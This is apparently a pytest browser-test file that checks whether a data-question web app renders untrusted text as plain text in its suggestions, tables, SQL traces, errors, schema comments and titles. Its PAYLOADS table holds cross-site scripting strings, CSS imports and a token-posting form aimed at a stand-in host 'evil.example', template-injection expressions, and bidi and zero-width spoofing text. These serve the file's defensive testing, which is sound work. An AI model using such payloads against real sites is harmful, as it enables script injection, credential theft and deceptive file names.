"""Texts that try to be more than text, in every place that the service fills: nothing runs, nothing
is fetched from elsewhere, nothing is shown as something it is not.

The reader's fixture fails on violations of the policy, errors, dialogs and foreign requests.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any
from xml.etree import ElementTree

import pytest

from tests.serve_app.page import canned
from tests.serve_app.page.browser import Reader
from tests.serve_app.page.fake_service import problem

EVIL = "http://evil.example"
PAYLOADS = {
    "script": f"<script src={EVIL}/a.js></script><script>alert(1)</script>",
    "image": f'<img src="{EVIL}/i.png" onerror="alert(1)">',
    "svg": "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
    "link": '<a href="javascript:alert(1)">click</a> javascript:alert(1)',
    "style": f'"><style>@import "{EVIL}/s.css";*{{display:none}}</style><p style="inset:0">',
    "attribute": '" onmouseover="alert(1)" autofocus onfocus=\'alert(1)\' x="',
    "template": "${alert(1)} {{constructor.constructor('alert(1)')()}} <%= alert(1) %>",
    "vega": "datum.constructor.constructor('alert(1)')() ']||alert(1)||datum['",
    "markdown": f"[click]({EVIL}) ![i]({EVIL}/m.png) <{EVIL}> `x` **bold**",
    "bidi": "invoice\u202egnp.exe \u2066hidden\u2069 \u200fright\u200e",
    "invisible": "pay\u200bpal\u2060 zero\ufeff soft\u00ad nul\u0000 esc\u001b[31m tag\U000e0041",
    "form": f'<form action="{EVIL}"><input name=token><button>Go</button></form>'
    f'<base href="{EVIL}/">',
}
INVISIBLE = "\u202e\u2066\u2069\u200f\u200e\u200b\u2060\ufeff\u00ad\u0000\u001b\U000e0041"


def _question(reader: Reader, text: str) -> None:
    reader.service.suggestions = [text]
    reader.visit()
    reader.see(".suggestions button")
    _check(reader, text, ".suggestions")
    reader.service.answer = lambda _: (
        canned.build_answer("how many")
        | {"question": text, "rewritten": text, "notes": [text], "text": text}
    )
    reader.page.click(".suggestions button")
    reader.see(".answer")
    _check(reader, text, ".question-meta", ".sentence")


def _cell_and_column(reader: Reader, text: str) -> None:
    answer = canned.build_answer("product line")
    rows = [[f"{text}{at}", at * 10] for at in range(8)]
    columns = [{"name": text, "type": text}, {"name": f"{text}!", "type": "int8"}]
    reader.service.answer = lambda _: answer | {"rows": rows, "columns": columns}
    _ask(reader)
    _check(reader, text, ".result thead", ".result tbody")
    reader.page.locator(".result td").first.dblclick()
    _check(reader, text, "dialog")
    reader.page.keyboard.press("Escape")
    reader.page.click("button:has-text('Columns')")
    reader.page.keyboard.press("Escape")
    reader.page.click("button:has-text('Chart')")
    assert not set(INVISIBLE) & set(reader.point_at_chart())
    with reader.page.expect_download() as saved:
        reader.page.click("button:has-text('SVG')")
    drawn = list(ElementTree.fromstring(saved.value.path().read_text()).iter())
    names = {element.tag.rpartition("}")[2] for element in drawn}
    assert names <= {"svg", "g", "path", "text", "rect", "line", "defs", "clipPath", "style"}
    attributes = {name for element in drawn for name in element.attrib}
    assert not [name for name in attributes if name.startswith("on") or name.endswith("href")]


def _sql_and_trace(reader: Reader, text: str) -> None:
    answer = canned.build_answer("product line")

    def poison(value: Any) -> Any:
        if isinstance(value, dict):
            return {key: poison(one) for key, one in value.items()}
        if isinstance(value, list):
            return [poison(one) for one in value]
        return text if isinstance(value, str) and len(value) > 12 else value

    sql = f"SELECT '{text}' -- {text}\n/* {text} */ FROM \"{text}\""
    reader.service.answer = lambda _: answer | {"sql": sql, "trace": poison(answer["trace"])}
    _ask(reader)
    reader.page.click("text=Why this answer")
    for name in ("In short", "Queries tried", "Data found", "Joins", "Told to", "Time"):
        reader.page.click(f".why .segments button:has-text('{name}')")
        reader.see(".part")
        if name in ("Queries tried", "Data found", "Told to"):
            _check(reader, text, ".part")
    reader.page.click(".answer-foot button:has-text('SQL')")
    reader.see(".editor.ready")


def _error_text(reader: Reader, text: str) -> None:
    reader.service.refuse.append(
        problem(
            422,
            text,
            text,
            errors=[{"field": text, "message": text}, {"field": text, "message": text}],
        )
    )
    reader.visit()
    reader.see("#question")
    reader.type_question("A question")
    reader.see(".problem")
    _check(reader, text, ".problem")
    reader.service.answer = lambda _: (
        canned.build_answer("impossible")
        | {
            "reason": text,
            "attempts": [{"sql": text, "origin": "", "error": text, "error_class": ""}],
        }
    )
    reader.page.click("text=Ask again")
    reader.see(".no-answer")
    reader.page.click("summary")
    _check(reader, text, ".attempts")


def _comment(reader: Reader, text: str) -> None:
    table = canned.describe_table("sales.orders")
    column = table["columns"][0] | {
        "name": text,
        "comment": text,
        "type": text,
        "values": [text],
        "refers_to": text,
    }
    neighbour = {"table": text, "columns": text, "direction": "in"}
    reader.service.table = lambda _: (
        table
        | {
            "table": text,
            "comment": text,
            "gloss": f"{text}.",
            "columns": [column],
            "neighbours": [neighbour],
        }
    )
    reader.visit("#/schema/demo_erp/sales.orders")
    reader.see(".columns-table")
    _check(reader, text, ".lead", ".columns-table", ".neighbour-list")
    for link in reader.page.locator("main a").all():
        assert (link.get_attribute("href") or "").startswith("#/")


def _title(reader: Reader, text: str) -> None:
    for conversation in reader.service.conversations:
        conversation.update(title=text, database=text)
    reader.visit("#/history")
    reader.see(".conversations li")
    _check(reader, text, ".conversations")
    reader.page.locator("button[aria-label='Delete']").first.click()
    reader.see(".notice")
    reader.page.click(".notice button")


PLACES: dict[str, Callable[[Reader, str], None]] = {
    "question": _question,
    "cell and column": _cell_and_column,
    "sql and trace": _sql_and_trace,
    "error": _error_text,
    "comment": _comment,
    "title": _title,
}


@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("name", PAYLOADS)
def test_text_stays_text(reader: Reader, name: str, place: str) -> None:
    PLACES[place](reader, PAYLOADS[name])
    made = reader.page.evaluate(
        "[...document.querySelectorAll('#page script, body style, body img, iframe, object, '"
        " + 'embed, base, form[action], [onload], [onerror], [onmouseover], animate')]"
        ".map((one) => one.outerHTML)"
    )
    assert made == []
    links = reader.page.evaluate("[...document.querySelectorAll('a, area')].map((one) => one.href)")
    assert [link for link in links if not link.startswith(reader.served.url)] == []


def _ask(reader: Reader) -> None:
    reader.visit()
    reader.see("#question")
    reader.ask("Which product line earned most last year?")


def _check(reader: Reader, text: str, *selectors: str) -> None:
    """The text is there, letter by letter; what cannot be seen is marked."""
    visible = [piece for piece in _split(text) if piece.strip()]
    for selector in selectors:
        shown = reader.see(selector).text_content()
        assert not set(INVISIBLE) & set(shown), (selector, shown)
        joined = "".join(shown.split()).replace("`", "")
        for piece in visible:
            assert "".join(piece.split()).replace("`", "") in joined, (selector, piece, shown)
        if len(visible) > 1 or set(INVISIBLE) & set(text):
            assert reader.page.locator(f"{selector} .mark").count() > 0


def _split(text: str) -> list[str]:
    for character in INVISIBLE:
        text = text.replace(character, "\ue000")
    return text.split("\ue000")
